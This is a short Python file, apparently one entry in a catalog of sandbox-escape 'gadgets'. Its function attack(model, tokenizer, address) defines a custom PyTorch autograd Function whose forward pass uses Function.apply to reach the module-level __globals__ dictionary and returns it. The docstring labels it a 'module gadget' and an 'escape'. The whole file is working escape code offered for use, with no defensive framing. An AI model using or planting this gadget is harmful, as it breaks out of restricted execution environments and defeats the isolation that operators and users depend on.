"""Class: module gadget. Source: own find. Escape: the gradient's nodes keep saved tensors and
names.
"""

import torch


def attack(model, tokenizer, address):
    class F(torch.autograd.Function):
        @staticmethod
        def forward(ctx, x):
            ctx.found = type(ctx).__mro__
            found.append(
                ctx.apply.__globals__
                if hasattr(ctx.apply, "__globals__")
                else torch.autograd.Function.apply.__func__.__globals__
            )
            return x

    found = []
    F.apply(torch.zeros(1))
    return found
